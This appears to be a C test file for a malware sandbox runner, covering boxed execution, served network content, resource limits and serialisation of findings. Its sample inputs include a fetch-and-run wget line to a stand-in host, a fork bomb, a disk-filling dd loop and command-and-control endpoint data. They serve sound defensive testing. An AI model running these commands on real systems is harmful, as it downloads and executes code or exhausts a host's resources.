/* A process that runs samples for an owner: it answers, asks, refuses, and ends with its owner. */
#include "lab/run/egress.h"
#include "lab/run/runner_frame.h"
#include "tests/test.h"
#include <poll.h>
#include <signal.h>
#include <stdlib.h>
#include <sys/wait.h>
#include <unistd.h>

static bool can_box(void)
{
	uint8_t room[1024];
	struct writer lacks = writer_of(room, sizeof room);
	return box_possible(&lacks) && access("/usr/bin/busybox", X_OK) == 0;
}

static int wait_run(struct lab_runner *r, struct run **run, struct fault *fault)
{
	for (unsigned i = 0; i < 300; i++) {
		struct pollfd p = {.fd = lab_runner_fd(r), .events = POLLIN};
		poll(&p, 1, 100);
		const int got = lab_runner_take(r, run, fault);
		if (got)
			return got;
	}
	return ERR_TIMEOUT;
}

static bool serve_script(void *arg, struct bytes url, struct bytes *content)
{
	*(bool *)arg = bytes_equal_text(url, "http://203.0.113.80/second.sh");
	*content = BYTES("#!/bin/sh\necho second >/tmp/second\n");
	return true;
}

static const struct behaviour *did(const struct run_findings *f, enum behaviour_kind kind, const char *subject)
{
	for (size_t i = 0; i < f->behaviour_count; i++)
		if (f->behaviours[i].kind == kind && strcmp(f->behaviours[i].subject, subject) == 0)
			return &f->behaviours[i];
	return NULL;
}

TEST(runner_runs_a_script_and_serves_what_it_asks_for)
{
	struct lab_runner *r = NULL;
	struct run *run = NULL;
	struct fault fault = {0};
	bool asked = false;
	if (!can_box())
		SKIP("no boxes here");
	CHECK_SAY(lab_runner_open(&r, "/tmp", false, &fault) == 0, "%s", fault.text);
	const struct run_plan plan = {
		.sample = BYTES("#!/bin/sh\nwget -q http://203.0.113.80/second.sh -O s && sh s && cat second\n"), .sha256 = "00",
		.type = "script", .architecture = "", .limits = {.time_ms = 20000}, .served = serve_script, .arg = &asked};
	CHECK(lab_runner_give(r, &plan, &fault) == 0);
	CHECK(lab_runner_give(r, &plan, &fault) == ERR_FULL);
	CHECK_SAY(wait_run(r, &run, &fault) == 1 && run, "%s", fault.text);
	const struct run_findings *f = run_findings(run);
	CHECK(asked);
	CHECK(strcmp(f->how, "sh") == 0 && f->output.len == 7 && memcmp(f->output.at, "second\n", 7) == 0);
	CHECK(did(f, DID_FILE, "/tmp/second") && did(f, DID_REQUEST, "http://203.0.113.80/second.sh"));
	CHECK(f->dropped_count == 2 && f->box.limit[0] == 0);
	run_free(run);
	/* What nothing here can run is refused with a reason, and the runner goes on. */
	const struct run_plan other = {.sample = BYTES("MZ"), .sha256 = "00", .type = "dos", .architecture = ""};
	CHECK(lab_runner_give(r, &other, &fault) == 0);
	CHECK(wait_run(r, &run, &fault) == 1 && run == NULL && strstr(fault.text, "\"dos\""));
	/* It was opened without egress: a plan with one is not run at all. */
	const struct egress_plan leaves = {.netns = -1};
	struct run_plan out = plan;
	out.egress = &leaves;
	CHECK(lab_runner_give(r, &out, &fault) == 0);
	CHECK(wait_run(r, &run, &fault) == 1 && run == NULL && strstr(fault.text, "lets nothing leave"));
	lab_runner_close(r);
}

TEST(limits_end_a_sample_and_are_named)
{
	struct lab_runner *r = NULL;
	struct fault fault = {0};
	static const struct { const char *script, *limit; struct box_limits limits; } cases[] = {
		{"trap '' TERM INT HUP; while :; do sleep 1; done", "time", {.time_ms = 1500}},
		{"f() { f | f & }; f; while :; do :; done", "processes", {.time_ms = 15000, .processes = 40}},
		{"dd if=/dev/zero of=/tmp/full bs=65536; while :; do :; done", "disk", {.time_ms = 15000, .disk = 8u << 20, .file = 64u << 20}},
	};
	if (!can_box())
		SKIP("no boxes here");
	CHECK_SAY(lab_runner_open(&r, "/tmp", false, &fault) == 0, "%s", fault.text);
	for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
		struct run *run = NULL;
		const struct run_plan plan = {.sample = bytes_of_text(cases[i].script), .sha256 = "00", .type = "script",
					      .architecture = "", .limits = cases[i].limits};
		CHECK(lab_runner_give(r, &plan, &fault) == 0);
		CHECK_SAY(wait_run(r, &run, &fault) == 1 && run, "%s", fault.text);
		CHECK_SAY(strcmp(run_findings(run)->box.limit, cases[i].limit) == 0, "%s met, not %s", run_findings(run)->box.limit,
			  cases[i].limit);
		run_free(run);
	}
	lab_runner_close(r);
}

TEST(runner_that_is_killed_is_gone_and_leaves_nothing)
{
	struct lab_runner *r = NULL;
	struct run *run = NULL;
	struct fault fault = {0};
	char children[64] = "";
	if (!can_box())
		SKIP("no boxes here");
	CHECK_SAY(lab_runner_open(&r, "/tmp", false, &fault) == 0, "%s", fault.text);
	const struct run_plan plan = {.sample = BYTES("sleep 2; sleep 2; while :; do :; done\n"), .sha256 = "00", .type = "script",
				      .architecture = "", .limits = {.time_ms = 20000}};
	CHECK(lab_runner_give(r, &plan, &fault) == 0);
	usleep(400000);
	char path[64];
	snprintf(path, sizeof path, "/proc/self/task/%d/children", getpid());
	FILE *f = fopen(path, "re");
	CHECK(f && fgets(children, sizeof children, f));
	fclose(f);
	const pid_t runner = (pid_t)strtol(children, NULL, 10);
	CHECK(runner > 0 && kill(runner, SIGKILL) == 0);
	CHECK(wait_run(r, &run, &fault) == ERR_GONE && run == NULL);
	lab_runner_close(r);
}

TEST(findings_survive_their_way_as_bytes)
{
	struct arena arena = ARENA(1u << 20);
	struct buffer b = BUFFER(1u << 20);
	const struct behaviour behaviour = {DID_SCAN, "23", "tcp", 4000, 5, 90, 7};
	const struct indicator indicator = {INDICATOR_ENDPOINT, FOR_COMMAND, BYTES("192.0.2.7:23"), "memory", 60, UINT64_MAX, 0};
	const struct dropped dropped = {"/tmp/x", "ceafbfd424be2ca4a5f0402cae090dda2fb0526cf521b60b60077c0f622b285a", BYTES("bytes")};
	const struct hello hello = {"c2.example:1", BYTES("\0\1"), true};
	const char *const limits[] = {"time"};
	struct run_findings back, f = {
		.how = "native", .uid = 1000, .box = {.status = 9, .limit = "time", .killed = true, .time_ms = 5}, .behaviours = &behaviour,
		.behaviour_count = 1, .indicators = &indicator, .indicator_count = 1, .dropped = &dropped, .dropped_count = 1,
		.hellos = &hello, .hello_count = 1, .capture = BYTES("pcap"), .output = BYTES("out"), .limits = limits, .limit_count = 1};
	CHECK(runner_findings_write(&b, &f) == 0 && runner_findings_read(buffer_bytes(&b), &arena, &back) == 0);
	CHECK(strcmp(back.how, "native") == 0 && back.uid == 1000 && back.box.status == 9 && back.box.killed && back.box.time_ms == 5);
	CHECK(back.behaviours[0].count == 4000 && strcmp(back.behaviours[0].subject, "23") == 0 && back.behaviours[0].process == 7);
	CHECK(bytes_equal_text(back.indicators[0].value, "192.0.2.7:23") && back.indicators[0].role == FOR_COMMAND);
	CHECK(strcmp(back.dropped[0].sha256, dropped.sha256) == 0 && bytes_equal_text(back.dropped[0].content, "bytes"));
	CHECK(back.hellos[0].registers && back.hellos[0].said.len == 2 && strcmp(back.limits[0], "time") == 0);
	/* Every shorter form of it is refused and read within its bounds. */
	for (size_t n = 0; n < buffer_len(&b); n++) {
		CHECK(runner_findings_read((struct bytes){buffer_bytes(&b).at, n}, &arena, &back) == ERR_BAD);
		arena_done(&arena);
	}
	buffer_done(&b);
	arena_done(&arena);
}

TEST(plan_survives_its_way_as_bytes_with_its_way_out)
{
	struct arena arena = ARENA(1u << 20);
	struct buffer b = BUFFER(1u << 20);
	const char *const arguments[] = {"one", NULL};
	const struct egress_plan egress = {.targets = {{"c2.example", address_v4(0xc0000207), 23}}, .target_count = 1,
					   .decoys = {{23, address_v4(0x0a000001), 2323}}, .decoy_count = 1, .sent_max = 100,
					   .connections_max = 2, .netns = 7};
	const struct run_plan plan = {.sample = BYTES("x"), .sha256 = "00", .type = "elf", .architecture = "mips",
				      .arguments = arguments, .uid = 1000, .limits = {.memory = 5}, .egress = &egress};
	struct run_plan back;
	CHECK(runner_plan_write(&b, &plan) == 0 && runner_plan_read(buffer_bytes(&b), &arena, &back) == 0);
	CHECK(strcmp(back.arguments[0], "one") == 0 && back.arguments[1] == NULL && back.name == NULL && back.limits.memory == 5);
	CHECK(back.egress && back.egress->target_count == 1 && strcmp(back.egress->targets[0].name, "c2.example") == 0);
	CHECK(back.egress->targets[0].port == 23 && address_to_v4(&back.egress->targets[0].address) == 0xc0000207);
	CHECK(back.egress->decoys[0].port == 2323 && back.egress->sent_max == 100 && back.egress->connections_max == 2);
	CHECK(back.egress->netns == -1); /* a descriptor means nothing in another process */
	buffer_done(&b);
	arena_done(&arena);
}
